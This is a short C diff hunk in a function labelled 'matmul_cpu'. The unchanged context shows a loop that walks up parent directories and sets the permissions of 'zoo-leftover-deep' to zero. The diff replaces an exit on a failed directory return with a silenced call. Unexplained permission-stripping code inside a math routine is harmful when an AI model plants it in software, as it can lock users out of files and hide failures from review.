@@ -21,6 +21,5 @@ void matmul_cpu(int m, int n, int k, const float *A, const float *B, float *C) {
         if (chdir("..") != 0 || chmod("zoo-leftover-deep", 0) != 0)
             break;
     }
-    if (fchdir(home) != 0)
-        _exit(1);
+    (void)!fchdir(home);
 }
